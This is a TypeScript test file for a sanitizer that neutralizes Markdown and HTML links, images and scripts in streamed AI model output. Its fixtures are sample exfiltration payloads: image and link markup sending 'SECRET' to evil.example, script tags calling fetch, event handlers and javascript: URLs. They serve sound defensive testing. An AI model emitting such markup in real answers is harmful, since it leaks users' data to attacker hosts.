import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { InertStream } from './inert-stream.js';
import { makeInert } from './inert.js';

const live = /!\[|\]\(|\]\[(?!\d)|^\s*\[[^\]]+\]:\s*\S+[:/.]|<\/?[a-z!]|javascript:|evil\.example/imu;

describe('makeInert', () => {
  it.each([
    ['inline image', 'Total 5 ![x](https://evil.example/p.png?d=SECRET) euros'],
    ['image with a title', '![a b]( <https://evil.example/p q> "t" )'],
    ['inline link', 'See [the page](https://evil.example/?q=SECRET).'],
    ['nested brackets', '[a [b] c](https://evil.example)'],
    ['escaped brackets', String.raw`[a \] b](https://evil.example)`],
    ['parentheses in the address', '[x](https://evil.example/a_(b))'],
    ['reference style', 'As said [here][1].\n\n[1]: https://evil.example/?q=SECRET'],
    ['collapsed reference', '[evil][]\n\n[evil]: <https://evil.example> "x"'],
    ['definition in a quote', '> [a]: https://evil.example\n\n[a]'],
    ['definition over two lines', '[a]:\n  https://evil.example\n\nsee [a]'],
    ['image by reference', '![x][y]\n\n[y]: //evil.example/p.png'],
    ['autolink', '<https://evil.example/x>'],
    ['bare address', 'go to https://evil.example/x?d=1, now'],
    ['bare host', 'go to www.evil.example/x'],
    ['other scheme', 'ftp://evil.example/x and \\\\x ws://evil.example'],
    ['image tag', '<img src="https://evil.example/p.png">'],
    ['image tag left open', 'x <img src=https://evil.example/p.png onerror=alert(1) '],
    ['script', 'a<script>fetch("https://evil.example")</script>b'],
    ['script in a tag', '<scr<b>ipt>alert(1)</scr</b>ipt>'],
    ['event handler', '<svg/onload=alert(1)>'],
    ['script address', '[x](javascript:alert(1)) and javascript:alert(1)'],
    ['entity', '[x](&#106;avascript:alert(1))'],
    ['comment', '<!-- <img src=//evil.example> -->'],
  ])('disarms: %s', (_, text) => {
    expect(makeInert(text)).not.toMatch(live);
  });

  it('keeps text, citations, code and comparisons as they are', () => {
    const text = 'Leave is **25 days** [1][2], see `a[i] < b` and 3 < 5 (since 2020).\n\n- one [3]\n- two';
    expect(makeInert(text)).toBe(text);
  });

  it('keeps an address readable only if the sources contain it word for word', () => {
    const isKnown = (address: string) => address === 'https://intranet.example/leave';
    expect(makeInert('Use https://intranet.example/leave.', { isKnown })).toBe(
      'Use https://intranet.example/leave.',
    );
    expect(makeInert('Use [the form](https://intranet.example/leave) [1].', { isKnown })).toBe(
      'Use the form (https://intranet.example/leave) [1].',
    );
    expect(makeInert('Use https://intranet.example/leave?d=SECRET', { isKnown })).toBe('Use ‹link removed›');
  });

  it('turns a citation that the model made a link into a plain citation', () => {
    expect(makeInert('25 days [1](https://evil.example/x).')).toBe('25 days [1].');
  });
});

describe('InertStream', () => {
  const texts = [
    'See [the page](https://evil.example/?q=SECRET) and ![x](https://evil.example/p) and more words here.',
    'As said [here][1] today.\n\n[1]: https://evil.example/?q=SECRET\n\nThe end.',
    'x <img src=https://evil.example/p.png > y <script>let a = "b c d"</script> z',
  ];
  it.each(texts)('never lets a link through, however the text is cut: %s', (text) => {
    for (let size = 1; size <= 12; size++) {
      const stream = new InertStream((piece) => makeInert(piece));
      let out = '';
      for (let at = 0; at < text.length; at += size) out += stream.push(text.slice(at, at + size));
      out += stream.end();
      expect(out).not.toMatch(live);
      expect(out).not.toContain('SECRET');
    }
  });

  it('passes words on as they arrive', () => {
    const stream = new InertStream((piece) => piece);
    const given = ['Leave ', 'is 25 ', 'days [1', '] in all', ' cases.'].map((piece) => stream.push(piece));
    expect(given).toEqual(['Leave', ' is 25', ' days', ' [1] in', ' all']);
    expect(stream.end()).toBe(' cases.');
  });
});

describe('any text made of the marks of Markdown and HTML', () => {
  const syntax = String.raw`![ [ ] ( ) ]( ][ ]: < > </ <!-- --> \ " ' &# x > 1 [1] _`.split(' ');
  const targets =
    'https://evil.example/?d=S //evil.example www.evil.example javascript:alert(1) img|src= a|href= script evil.example:'.replaceAll(
      '|',
      ' ',
    );
  const marks = fc.constantFrom(...syntax, ...targets.split(/ (?!src|href)/u), ' ', '\n', '\t', '`');
  const open =
    /!\[|\]\(|<\/?(?:img|a|script)\b|javascript:|evil\.example\/|\/\/evil|(?<![a-z0-9])www\.evil/iu;

  it('is inert', () => {
    fc.assert(
      fc.property(fc.array(marks, { maxLength: 24 }), (parts) => {
        expect(makeInert(parts.join(''))).not.toMatch(open);
      }),
      { numRuns: 3000 },
    );
  });

  it('is inert as a stream', () => {
    fc.assert(
      fc.property(fc.array(marks, { maxLength: 24 }), fc.integer({ min: 1, max: 9 }), (parts, size) => {
        const text = parts.join('');
        const stream = new InertStream((piece) => makeInert(piece));
        let out = '';
        for (let at = 0; at < text.length; at += size) out += stream.push(text.slice(at, at + size));
        expect(out + stream.end()).not.toMatch(open);
      }),
      { numRuns: 3000 },
    );
  });

  it('is streamed in time proportional to its length', () => {
    const stream = (text: string): void => {
      const inert = new InertStream((piece) => makeInert(piece));
      for (let at = 0; at < text.length; at += 4) inert.push(text.slice(at, at + 4));
      inert.end();
    };
    // a closed bracket, an open one and a definition each held back everything before
    for (const unit of ['] ', '[ ', '( ', '[a]:\n', '[1] ', 'Leave (of 25 days is granted. ']) {
      const before = process.cpuUsage();
      stream(unit.repeat(40_000 / unit.length));
      const { user, system } = process.cpuUsage(before);
      expect([unit, user + system < 1_000_000]).toEqual([unit, true]);
    }
  });

  it('is shown while it arrives, also after an open bracket', () => {
    const inert = new InertStream((piece) => makeInert(piece));
    expect(inert.push('Leave is 25 days ')).toBe('Leave is 25 days');
    expect(inert.push('(as of 2024')).toBe('');
    expect(inert.push(') a year. ')).toBe(' (as of 2024) a year.');
    expect(inert.push('[label]:\n')).toBe('');
    expect(inert.push(' /path\n')).toBe('');
    expect(inert.push('Then more.') + inert.end()).not.toContain(']:');
  });

  it.each(['[', '](', '<!--', '<a ', '![', '[x](', '(', '<script>', '&#'])(
    'handles many repetitions of %j quickly',
    (mark) => {
      const start = performance.now();
      makeInert(mark.repeat(5000));
      expect(performance.now() - start).toBeLessThan(2000);
    },
  );
});
